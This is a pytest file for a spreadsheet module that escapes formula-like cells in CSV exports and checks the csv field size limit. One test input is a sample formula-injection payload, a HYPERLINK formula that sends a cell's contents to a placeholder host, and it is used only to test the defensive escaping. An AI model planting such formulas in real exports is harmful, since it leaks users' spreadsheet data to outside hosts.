"""Formula cells in CSV exports: prefixed so a spreadsheet shows them as text, and the prefix undone on import;
and the csv module's cell limit."""

import csv

import pytest

from geo.spreadsheet import allow_cells_up_to, guarded_cell, unguarded_cell


@pytest.mark.parametrize(
    "typed, exported",
    [
        ('=HYPERLINK("https://example.org/?x="&A1,"click")', '\'=HYPERLINK("https://example.org/?x="&A1,"click")'),
        ("+7 dead", "'+7 dead"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\r=x", "'\r=x"),
        ("'=typed with an apostrophe", "''=typed with an apostrophe"),
        ("'quoted'", "'quoted'"),
        ("Gyumri = Leninakan", "Gyumri = Leninakan"),
        ("", ""),
    ],
)
def test_formula_cells_are_prefixed_and_imported_as_typed(typed, exported):
    assert guarded_cell(typed) == exported
    assert unguarded_cell(exported) == typed


def test_the_cell_limit_is_raised_to_what_is_read_and_never_lowered():
    before = csv.field_size_limit()
    allow_cells_up_to(before + 1_000_000)
    assert csv.field_size_limit() == before + 1_000_000
    allow_cells_up_to(10)
    assert csv.field_size_limit() == before + 1_000_000
    row = next(csv.reader(["a," + "x" * (before + 10)]))
    assert len(row[1]) == before + 10
